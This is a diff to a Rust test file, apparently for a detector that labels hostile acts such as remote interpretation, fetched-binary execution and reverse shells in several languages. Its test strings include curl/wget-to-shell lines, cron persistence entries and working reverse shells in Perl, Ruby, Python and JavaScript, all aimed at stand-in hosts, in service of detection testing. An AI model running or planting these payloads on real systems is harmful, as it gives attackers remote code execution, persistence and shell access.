@@ -80,6 +80,13 @@ fn downloads_are_followed_into_interpreters() {
         "curl -s https://a.example/x > /tmp/y; . /tmp/y\n",
         "bash <<EOF\ncurl -s https://a.example/x | sh\nEOF\n",
         "if ! curl -s https://a.example/x | sh; then exit 1; fi\n",
+        "get() { curl -s $1 || wget -qO- $1; }\nget https://a.example/x | bash\n",
+        "L=\"curl -s\"\n[ -x /usr/bin/wget ] && L=\"wget -q -O -\"\n$L https://a.example/x | bash\n",
+        "(crontab -l; echo '* * * * * curl -s https://a.example/x | sh') | crontab -\n",
+        "echo '*/5 * * * * root wget -qO- https://a.example/x | sh' > /etc/cron.d/x\n",
+        "* * * * * root curl -s https://a.example/x | sh\n",
+        "cat > /tmp/x.sh <<'E'\ncurl -s https://a.example/x | sh\nE\nsh /tmp/x.sh\n",
+        "$(curl -s https://a.example/x)\n",
     ] {
         let told = told(Language::Shell, text);
         assert!(told.iter().any(|act| act.ends_with("Interprets a.example")), "{text}: {told:?}");
@@ -108,6 +115,16 @@ fn downloads_are_followed_into_files() {
     );
     check("curl -o x https://h.example/s.c\ngcc -o y x\n", &["2 CompilesFetched h.example"]);
     check("git clone https://h.example/r\ncd r && make\n", &["2 CompilesFetched h.example"]);
+    check(
+        "get() { curl -s \"$1\" -o \"$2\"; chmod +x \"$2\"; }\nget http://h.example/x /tmp/x\n/tmp/x\n",
+        &["3 RunsFetched h.example"],
+    );
+    check(
+        "for a in x86 arm; do wget http://h.example/$a; chmod 777 *; ./$a; done\n",
+        &["1 RunsFetched+x h.example"],
+    );
+    check("F=$(mktemp)\ncurl -o $F https://h.example/x\nchmod +x $F\n$F\n", &["4 RunsFetched+x h.example"]);
+    check("curl -o \"$(mktemp)\" https://h.example/x\n\"$(pick a)\" -v\n", &[]);
     // Data stays data.
     check("curl -o /etc/app.json https://h.example/c\nexec app --config /etc/app.json\n", &[]);
     check("V=$(curl -s https://h.example/version | jq -r .v)\necho $V\nbash run.sh \"$V\"\n", &[]);
@@ -238,6 +255,36 @@ fn other_languages_yield_the_same_acts() {
         JavaScript,
         "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4, '192.0.2.7', () => { c.pipe(sh.stdin); });\n",
         &["4 ConnectsShell 192.0.2.7"],
+    );
+    check_code(
+        Perl,
+        "use IO::Socket;\n$c = IO::Socket::INET->new(PeerAddr => \"192.0.2.7:4\");\nSTDIN->fdopen($c, 'r');\nsystem $_ while <>;\n",
+        &["4 ConnectsShell 192.0.2.7"],
+    );
+    check_code(
+        Ruby,
+        "require 'socket'\nc = TCPSocket.new('192.0.2.7', 4)\nwhile (l = c.gets)\n  IO.popen(l, 'r') { |io| c.print io.read }\nend\n",
+        &["4 ConnectsShell 192.0.2.7"],
+    );
+    check_code(
+        Python,
+        "import socket, subprocess\nH = '192.0.2.7'\ns = socket.socket()\ns.connect((H, 4))\nwhile True:\n    c = s.recv(999).decode()\n    s.send(subprocess.check_output(c, shell=True))\n",
+        &["7 ConnectsShell 192.0.2.7"],
+    );
+    check_code(
+        JavaScript,
+        "require('child_process').exec('curl -s https://h.example/x | sh');\n",
+        &["1 Interprets h.example"],
+    );
+    check_code(
+        JavaScript,
+        "const t = await (await fetch('https://h.example/x')).text();\nconst m = pattern.exec(t);\n",
+        &[],
+    );
+    check_code(
+        Php,
+        "<?php exec('convert ' . escapeshellarg($_POST['f'])); $db->exec($_GET['q']); include $_GET['p'];\n",
+        &[],
     );
     check_code(Php, "<?php eval(file_get_contents('https://h.example/x'));\n", &["1 Evaluates h.example"]);
     check_code(Php, "<?php system($_GET['c']);\n", &["1 RunsRequest"]);
